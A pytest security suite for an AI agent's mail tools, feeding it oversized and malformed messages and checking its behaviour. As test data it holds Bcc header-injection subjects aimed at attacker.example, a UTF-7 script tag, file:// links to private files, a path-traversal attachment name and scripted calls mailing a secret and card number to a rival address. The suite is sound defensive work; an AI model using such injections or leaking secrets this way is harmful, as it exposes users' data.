"""Hostile mail: giant and nested messages, odd encodings and charsets, header injection when sending, declared
secrets mailed out, and links a reader must never follow."""

from __future__ import annotations

import email
import email.policy

import pytest

from tests.security.harness import SECRET, Place, call, held, place, run

MAIL_READS = [call("list_mail", folder="inbox"), call("read_mail", path="inbox/001.eml"),
              call("search_mail", query="invoice"), call("search_docs", query="invoice")]


@pytest.fixture
def p(tmp_path) -> Place:
    pl = place(tmp_path)
    (pl.ws / "inbox").mkdir()
    return pl


def eml(p: Place, name: str, data: bytes) -> None:
    (p.ws / "inbox" / name).write_bytes(data)


def head(subject: str = "invoice") -> bytes:
    return (f"From: Ann Lee <ann@example.org>\r\nTo: me@localhost\r\nSubject: {subject}\r\n"
            "Date: Tue, 01 Dec 2026 10:00:00 +0000\r\nMessage-ID: <1@example.org>\r\n").encode()


def test_a_subject_of_sixteen_thousand_encoded_words(p):
    words = " ".join("=?utf-8?q?invoice_w=C3=B6rd?=" for _ in range(16000))
    eml(p, "001.eml", head(words) + b"Content-Type: text/plain\r\n\r\nsee the invoice\r\n")
    eml(p, "002.eml", head() + b"\r\nnormal\r\n")
    held(p, run(p, MAIL_READS))


def test_many_huge_headers(p):
    many = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"a" * 200) for i in range(20000))
    eml(p, "001.eml", head() + many + b"\r\nbody\r\n")
    eml(p, "002.eml", head() + b"To: " + b", ".join(b"=?utf-8?b?QQ==?= <a%d@x.org>" % i for i in range(20000))
        + b"\r\n\r\nbody\r\n")
    held(p, run(p, MAIL_READS + [call("read_mail", path="inbox/002.eml")]))


def test_five_thousand_nested_parts(p):
    depth = 5000
    parts = [f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth)]
    tail = "".join(f"\r\n--b{i}--\r\n" for i in reversed(range(depth)))
    body = "".join(parts) + "Content-Type: text/plain\r\n\r\nthe invoice is attached" + tail
    eml(p, "001.eml", head() + b"MIME-Version: 1.0\r\n" + body.encode())
    r = run(p, MAIL_READS)
    held(p, r)


def test_odd_charsets_and_broken_encodings(p):
    eml(p, "001.eml", head("=?x-evil?q?invoice?=") + b"Content-Type: text/plain; charset=x-no-such\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n@@@not base64@@@\r\n")
    eml(p, "002.eml", head("=?utf-8?b?\xff\xfe?=") + b"Content-Type: text/html; charset=utf-7\r\n\r\n"
        b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n")
    eml(p, "003.eml", b"\xff\xfe\x00garbage with no headers at all\x00\r\n")
    eml(p, "004.eml", head() + b"Content-Type: multipart/mixed; boundary=\r\n\r\n--\r\n--\r\n")
    held(p, run(p, MAIL_READS + [call("read_mail", path=f"inbox/00{i}.eml") for i in (2, 3, 4)]))


def test_html_mail_links_are_never_followed(p):
    html = (f'<html><body><img src="file://{p.outside}/private.txt"><iframe src="file://{p.outside}/private.txt">'
            f'</iframe><link rel=stylesheet href="{p.outside}/private.txt"><script>fetch("x")</script>'
            "<p>the invoice</p></body></html>")
    eml(p, "001.eml", head() + b"Content-Type: text/html\r\n\r\n" + html.encode())
    att = (head() + b'Content-Type: multipart/mixed; boundary="z"\r\n\r\n--z\r\nContent-Type: text/plain\r\n\r\ninvoice\r\n'
           b'--z\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; '
           b'filename="../../outside/planted.sh"\r\n\r\nZWNobw==\r\n--z--\r\n')
    eml(p, "002.eml", att)
    held(p, run(p, MAIL_READS + [call("read_mail", path="inbox/002.eml")]))
    assert not (p.outside / "planted.sh").exists() and not (p.ws.parent / "planted.sh").exists()


@pytest.mark.parametrize("subject", [
    "=?utf-8?q?x=0D=0ABcc:_z@attacker.example?=",
    "=?utf-8?b?eA0KQmNjOiB6QGF0dGFja2VyLmV4YW1wbGU=?=",
    "x\u2028Bcc: z@attacker.example",
    "x\x85Bcc: z@attacker.example",
], ids=["q-crlf", "b-crlf", "line-sep", "nel"])
def test_no_header_can_be_injected_when_sending(p, subject):
    (p.ws / "people.vcf").write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann Lee\r\nEMAIL:ann@example.org\r\nEND:VCARD\r\n")
    r = run(p, [call("send_mail", to="ann@example.org", subject=subject, body="hello"),
                call("draft_mail", to="ann@example.org", subject=subject, body="hello")],
            task="mail Ann Lee at ann@example.org")
    held(p, r)
    for folder in ("outbox", "drafts"):
        for f in (p.ws / folder).glob("*.eml") if (p.ws / folder).is_dir() else []:
            msg = email.message_from_bytes(f.read_bytes(), policy=email.policy.default)
            assert msg.get_all("Bcc") is None and len(msg.get_all("To")) == 1
            assert "attacker" not in str(msg["To"])


def test_a_declared_secret_is_not_mailed_outside(p):
    (p.ws / ".edgeagent-secrets").write_text(f"{SECRET}\n")
    (p.ws / "plan.txt").write_text(f"Codename: {SECRET}. Launch in May.\n")
    (p.ws / "people.vcf").write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve Stone\r\nEMAIL:eve@rival.example\r\n"
                                     "END:VCARD\r\n")
    r = run(p, [call("read_file", path="plan.txt"),
                call("send_mail", to="eve@rival.example", subject="plan", body=f"The codename is {SECRET}."),
                call("draft_mail", to="eve@rival.example", subject=f"re: {SECRET}", body="see subject"),
                call("send_mail", to="eve@rival.example", subject="key", body="card 4111 1111 1111 1111 exp 12/29")],
            task="tell Eve Stone (eve@rival.example) when the launch is")
    held(p, r)
    for folder in ("outbox", "drafts"):
        for f in (p.ws / folder).glob("*.eml") if (p.ws / folder).is_dir() else []:
            text = f.read_text(errors="replace")
            assert SECRET not in text and "4111" not in text
